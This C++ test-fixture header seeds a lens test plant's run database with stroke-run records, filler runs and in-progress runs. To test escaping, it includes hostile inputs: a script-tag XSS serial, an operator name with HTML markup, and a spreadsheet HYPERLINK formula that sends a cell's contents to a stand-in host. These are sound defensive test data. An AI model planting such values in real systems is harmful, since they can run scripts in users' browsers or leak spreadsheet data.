#pragma once

#include "runin/loglines.h"
#include "runin/timestamp.h"
#include "runs/progress.h"
#include "runs/progressstore.h"
#include "runs/rundatabase.h"
#include "runs/runstore.h"
#include "testsupport/records.h"

#include <QDateTime>

#include <string>
#include <vector>

// The records of a small plant, as the stations' real store code keeps them: four stations, a
// lens that failed and passed again, a serial and an operator that hold markup and non-ASCII, two
// ids that begin alike, and a filler station with enough runs for two pages.
namespace plant::test {

inline constexpr const char *kHostileSerial = "<script>alert(\"x\")</script>";
inline constexpr const char *kHostileOperator = "O'Brien <i>&amp;</i>";
inline constexpr const char *kForeignOperator = "Zoë Łukasz";
inline constexpr int kFillerRuns = 120;
// Serials of the filler station that a browser, a spreadsheet or QString::arg() would misread.
inline const QStringList kTrickySerials{"..", ".", "=HYPERLINK(\"http://x/?\"&B2)", "%2", "-5"};

// A full-stroke run of `cycles` cycles with a position error of `error` on the axis named, if any.
inline runs::RunRecord strokeRun(const QString &id, const QString &station, const QString &serial,
                                 const QString &operatorName, const QDateTime &start, int cycles,
                                 std::string_view errorAxis = {}, const std::string &error = "23")
{
    using namespace runin;
    runs::RunRecord run = testsupport::runRecord(station, serial, start, operatorName);
    run.id = id;
    QDateTime now = start;
    const auto line = [&run, &now](const QString &text) {
        run.complete += text.toLocal8Bit() + "\r\n";
        now = now.addSecs(7);
    };
    for (int cycle = 0; cycle < cycles; ++cycle) {
        for (const auto axis : {kZoom1Axis, kZoom2Axis}) {
            line(reachedLine(stampOf(now), axis, kStrokeAscending, "500"));
            line(reachedLine(stampOf(now), axis, kStrokeDescending, "75"));
        }
        line(reachedLine(stampOf(now), kIrisAxis, kStrokeAscending, "6"));
        line(reachedLine(stampOf(now), kIrisAxis, kStrokeDescending, "1"));
        line(reachedLine(stampOf(now), kFocusAxis, kStrokeAscending, "10100"));
        line(reachedLine(stampOf(now), kFocusAxis, kStrokeDescending, "100"));
        if (!errorAxis.empty() && cycle == cycles / 2) {
            const QString text = errorLine(stampOf(now), error, errorAxis, kStrokeAscending);
            line(text);
            run.errors += text.toLocal8Bit() + "\r\n";
        }
    }
    run.end = now.toUTC();
    runs::takeFiguresFromLogs(run);
    return run;
}

inline QString fillerId(int number)
{
    return QStringLiteral("f%1-0000-4000-8000-000000000000").arg(number, 7, 10, QLatin1Char('0'));
}

// Stored in `records`, times counted back from `now`.
inline base::Status storePlant(runs::RunDatabase &records, const QDateTime &now)
{
    using runin::kFocusAxis, runin::kIrisAxis, runin::kZoom1Axis;
    const auto hours = [&now](int back) { return now.addSecs(-3600 * back); };
    std::vector<runs::RunRecord> list{
        strokeRun("aaaa0001-0000-4000-8000-000000000001", "bench-1", "L-1001", "anna", hours(30), 6,
                  kZoom1Axis, "23"),
        strokeRun("aaaa0002-0000-4000-8000-000000000002", "bench-1", "L-1001", "anna", hours(20),
                  6),
        strokeRun("b0000003-0000-4000-8000-000000000003", "bench-2", "L-1002", kHostileOperator,
                  hours(10), 4),
        strokeRun("b0000004-0000-4000-8000-000000000004", "bench-2", kHostileSerial,
                  kForeignOperator, hours(5), 5, kIrisAxis, "-41"),
        strokeRun("c0000005-0000-4000-8000-000000000005", "bench-3", "", "anna", hours(4), 3),
        strokeRun("a0000006-0000-4000-8000-000000000006", "bench-1", "L-1003", "anna", hours(2), 8,
                  kFocusAxis, "120"),
    };
    for (int i = 0; i < kFillerRuns; ++i)
        list.push_back(strokeRun(fillerId(i), "bench-9",
                                 kTrickySerials.value(i, QStringLiteral("F-%1").arg(i)),
                                 i < kTrickySerials.size() ? "%1" : "filler", hours(100 + i), 1));
    for (const runs::RunRecord &run : list)
        if (auto stored = runs::RunStore(records).put(run); !stored)
            return stored;
    // bench-3 runs now; bench-4's station stopped sending in the middle of a run.
    runs::RunProgress running;
    running.runId = QStringLiteral("c0000007-0000-4000-8000-000000000007");
    running.station = QStringLiteral("bench-3");
    running.serial = QStringLiteral("L-1004");
    running.tests = QStringLiteral("Full stroke");
    running.cycles = 12;
    running.errors = {0, 0, 0, 1};
    running.lastStep = now.toUTC();
    runs::RunProgress stopped = running;
    stopped.runId = QStringLiteral("c0000008-0000-4000-8000-000000000008");
    stopped.station = QStringLiteral("bench-4");
    stopped.serial = QStringLiteral("L-1005");
    stopped.cycles = 3;
    stopped.errors = {};
    stopped.lastStep = now.toUTC();
    if (auto stored = runs::ProgressStore(records).put(running); !stored)
        return stored;
    return runs::ProgressStore(records).put(stopped);
}

} // namespace plant::test
